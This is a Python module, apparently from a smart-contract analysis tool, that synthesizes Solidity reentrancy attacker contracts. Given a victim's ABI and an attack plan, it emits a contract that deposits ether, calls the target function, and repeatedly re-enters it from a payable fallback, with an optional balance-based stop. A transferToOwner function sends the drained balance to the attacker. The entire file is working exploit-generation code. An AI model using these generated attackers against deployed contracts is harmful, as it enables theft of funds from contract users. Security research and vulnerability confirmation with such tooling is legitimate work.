"""Attacker contract synthesis.

The generated contract holds a handle to the victim, optionally deposits
some ether through a payable entry point, calls the target function, and
re-enters it from its payable fallback whenever the victim pays out.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from . import nodes as n
from .errors import ArityMismatch, NonAttackableTarget
from .frontend import AbiSpec, parse, render

ATTACKER_PRAGMA = ">=0.4.22 <0.6.0"

# argument placeholders in entry_args that stand for the attacker itself
SELF = "self"


@dataclass
class AttackPlan:
    target_contract: str
    target_function: str
    entry_args: list = field(default_factory=list)
    max_reentry: Optional[int] = None
    funding: int = 0


def default_args(abi: AbiSpec, function: str) -> list:
    """Default argument per ABI input: 0, false, or the attacker's address."""
    entry = abi.function(function)
    if entry is None:
        raise NonAttackableTarget(f"{abi.contract}.{function} is not a public function")
    out = []
    for p in entry.inputs:
        if p.type == "bool":
            out.append(False)
        elif p.type == "address":
            out.append(SELF)
        else:
            out.append(0)
    return out


def attacker_name(plan: AttackPlan) -> str:
    return f"Attacker_{plan.target_contract}_{plan.target_function}"


def deposit_route(abi: AbiSpec) -> Optional[str]:
    """How the attacker can pay the victim: a payable nullary function name,
    ``""`` for the payable fallback, or None when the victim accepts nothing."""
    payable = [e for e in abi.entries if e.type == "function" and e.payable and not e.inputs]
    for e in payable:
        if e.name == "deposit":
            return e.name
    if payable:
        return payable[0].name
    fb = abi.fallback
    if fb is not None and fb.payable:
        return ""
    return None


def _arg_source(value) -> str:
    if value == SELF:
        return "address(this)"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str) and value.startswith("0x"):
        return value
    raise ArityMismatch(f"unsupported entry argument {value!r}")


def _validate(abi: AbiSpec, plan: AttackPlan) -> None:
    if plan.target_contract != abi.contract:
        raise NonAttackableTarget(f"plan targets {plan.target_contract}, ABI is {abi.contract}")
    if plan.target_function in ("constructor", "fallback", abi.contract):
        raise NonAttackableTarget(f"{plan.target_function} cannot be re-entered")
    entry = abi.function(plan.target_function)
    if entry is None:
        raise NonAttackableTarget(f"{abi.contract}.{plan.target_function} is not a public function")
    if len(plan.entry_args) != len(entry.inputs):
        raise ArityMismatch(
            f"{entry.signature} takes {len(entry.inputs)} arguments, plan gives {len(plan.entry_args)}"
        )
    if plan.funding < 0:
        raise ValueError("funding must be non-negative")
    if plan.max_reentry is not None and plan.max_reentry < 0:
        raise ValueError("max_reentry must be non-negative")


def attacker_source(abi: AbiSpec, plan: AttackPlan) -> str:
    _validate(abi, plan)
    victim = plan.target_contract
    args = ", ".join(_arg_source(a) for a in plan.entry_args)
    reenter = f"target.{plan.target_function}({args});"
    bounded = plan.max_reentry is not None

    lines = [
        f"pragma solidity {ATTACKER_PRAGMA};",
        f'import "{victim}.sol";',
        f"contract {attacker_name(plan)} {{",
        "    address payable private _owner;",
        "    address payable private _vulnerableAddr;",
        f"    {victim} public target;",
    ]
    if bounded:
        lines.append("    uint256 private reentryCount;")
    lines += [
        "    constructor(address payable vulnerableAddr) public payable {",
        "        _owner = msg.sender;",
        "        _vulnerableAddr = vulnerableAddr;",
        f"        target = {victim}(vulnerableAddr);",
        "    }",
        "    function attack() public {",
    ]
    if plan.funding > 0:
        route = deposit_route(abi)
        if route is None:
            raise NonAttackableTarget(f"{victim} has no payable entry point for funding")
        if route:
            lines.append(f"        target.{route}.value({plan.funding})();")
        else:
            lines.append(f'        require(address(target).call.value({plan.funding})(""));')
    lines += [f"        {reenter}", "    }", "    function() external payable {"]
    if not bounded:
        lines.append(f"        {reenter}")
    else:
        # stop once the victim can no longer cover another payout of the same size
        guard = f"reentryCount < {plan.max_reentry} && address(target).balance >= msg.value"
        if plan.max_reentry == 0:
            lines.append(f"        if ({guard}) {{")
        else:
            lines += [
                f"        if ({guard}) {{",
                "            reentryCount += 1;",
                f"            {reenter}",
            ]
        lines.append("        }")
    lines += [
        "    }",
        "    function transferToOwner() public {",
        "        _owner.transfer(address(this).balance);",
        "    }",
        "}",
    ]
    return "\n".join(lines) + "\n"


def synthesize_attacker(abi: AbiSpec, plan: AttackPlan) -> n.SourceUnit:
    """Build the attacker for ``plan`` as a syntax tree in the supported subset."""
    return parse(attacker_source(abi, plan))


def render_attacker(unit: n.SourceUnit) -> str:
    return render(unit)
